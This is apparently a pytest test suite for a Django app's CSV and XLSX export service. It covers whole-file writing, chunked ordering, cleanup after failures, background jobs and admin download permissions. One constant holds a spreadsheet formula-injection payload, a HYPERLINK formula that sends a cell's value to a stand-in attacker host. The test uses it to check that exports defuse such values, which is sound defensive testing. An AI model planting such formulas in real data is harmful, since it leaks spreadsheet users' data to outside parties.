"""Exports leave one whole file or nothing; from a request to its download, and the admin's action."""

import csv
import io
import os
import tempfile
import time
import uuid

import openpyxl
import pytest
from django.core.files.storage import default_storage
from django.urls import reverse

from apps.exports import services
from apps.exports.datasets import TABLES
from apps.exports.models import Export
from apps.exports.writers import CONTENT_TYPES
from apps.shop.models import Customer
from switchyard.middleware.errors import PermanentFailure
from tests.factories.callers import Caller
from tests.factories.shop import make_customer, make_invoice, make_payment
from tests.factories.staff import staff
from tests.factories.web import download
from tests.waiting import wait_for

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media")]
EVIL = '=HYPERLINK("http://evil.example?x="&A1,"click")'


def rows_of(result):
    with default_storage.open(result["file"]) as file:
        content = file.read()
    if result["filename"].endswith(".csv"):
        return [*csv.reader(io.StringIO(content.decode(), newline=""))]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_every_dataset_is_exported_whole(file_format):
    for _ in range(3):
        make_payment(make_invoice())
    make_payment(reference=EVIL)

    results = [services.export(name, file_format, job_id=None) for name in ("customers", "invoices", "payments")]

    assert [result["rows"] for result in results] == [4, 3, 4]
    assert [len(rows_of(result)) for result in results] == [5, 4, 5]
    assert "'" + EVIL in rows_of(results[2])[-1]
    assert {result["content_type"] for result in results} == {CONTENT_TYPES[file_format]}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_more_rows_than_a_chunk_come_out_once_each_and_in_order(file_format):
    Customer.objects.bulk_create(
        Customer(name=f"Name {number}", email=f"c{number}@mail.example", country="DE") for number in range(1203)
    )

    result = services.export("customers", file_format, job_id=None)

    ids = [int(row[0]) for row in rows_of(result)[1:]]
    assert ids == list(Customer.objects.order_by("pk").values_list("pk", flat=True))


def test_an_empty_shop_gives_a_file_with_a_heading():
    (heading,) = rows_of(services.export("invoices", "csv", job_id=None))

    assert heading == [column.title for column in TABLES["invoices"].columns]


def test_a_file_that_was_removed_is_written_anew():
    job_id = str(uuid.uuid4())
    default_storage.delete(services.export("customers", "csv", job_id=job_id)["file"])

    second = services.export("customers", "csv", job_id=job_id)

    assert default_storage.exists(second["file"])
    assert Export.objects.get().file == second["file"]


def test_a_failure_half_way_leaves_nothing_behind(media, tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    failing = (make_customer() if number == 0 else 1 / 0 for number in range(2))
    monkeypatch.setattr(services, "stream", lambda rows: failing)

    with pytest.raises(ZeroDivisionError):
        services.export("customers", "xlsx", job_id=None)

    assert list(tmp_path.iterdir()) == []
    assert not Export.objects.exists()


@pytest.mark.parametrize(("dataset", "file_format"), [("secrets", "csv"), ("invoices", "pdf")])
def test_an_unknown_dataset_or_format_fails_for_good(dataset, file_format):
    with pytest.raises(PermanentFailure, match="is not known"):
        services.export(dataset, file_format, job_id=None)


def test_folder_of_a_killed_export_is_removed_by_the_next_one(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    killed, running = tmp_path / "switchyard-export-a", tmp_path / "switchyard-export-b"
    for folder in (killed, running, tmp_path / "of-somebody-else"):
        folder.mkdir()
    (killed / "customers.csv").write_text("half")
    for name in ("switchyard-export-a", "of-somebody-else"):
        os.utime(tmp_path / name, (time.time() - 2 * services.LEFT_BEHIND_S,) * 2)

    services.export("customers", "csv", job_id=None)

    assert {path.name for path in tmp_path.iterdir()} - {"media"} == {"switchyard-export-b", "of-somebody-else"}


@pytest.mark.django_db(transaction=True)
def test_an_accepted_request_ends_as_a_file_that_its_owner_downloads(facilities, run_worker):
    make_invoice()
    caller = Caller()

    answer = caller.post("/exports", {"dataset": "invoices", "format": "csv"})
    with run_worker("slow"):
        wait_for(lambda: facilities.records.read(answer.json()["job_id"]).ended)
    job = caller.get(f"/jobs/{answer.json()['job_id']}").json()

    assert (answer.status_code, job["state"], job["result"]["rows"]) == (202, "succeeded", 1)
    assert job["progress"]["done"] == job["progress"]["total"] == 1
    assert job["result_url"].endswith("/result")


@pytest.mark.django_db(transaction=True)
def test_the_admin_exports_again(admin_client, facilities):
    services.export("customers", "csv", job_id="j1")
    services.export("customers", "csv", job_id="j2")
    form = {"action": "export_again", "_selected_action": list(Export.objects.values_list("pk", flat=True))}

    page = admin_client.post(reverse("admin:exports_export_changelist"), form, follow=True)

    assert facilities.transport.stats("slow").live.waiting == 1
    assert "1 export is on the way." in page.content.decode()


@pytest.mark.django_db(transaction=True)
def test_the_admin_hands_out_a_file_that_is_there_to_who_may_see_it(media):
    make_customer(name="Ada")
    services.export("customers", "csv", job_id="j1")
    export = Export.objects.get()
    address = reverse("admin:exports_export_download", args=[export.pk])
    viewer, other = (staff(*rights).cookies for rights in (["view_export"], []))

    allowed, content = download(address, cookies=viewer)
    refused, _ = download(address, cookies=other)
    (media / export.file).unlink()
    gone, _ = download(address, cookies=viewer)

    assert '"Ada"' in content.decode()
    assert [answer.status_code for answer in (allowed, refused, gone)] == [200, 403, 404]
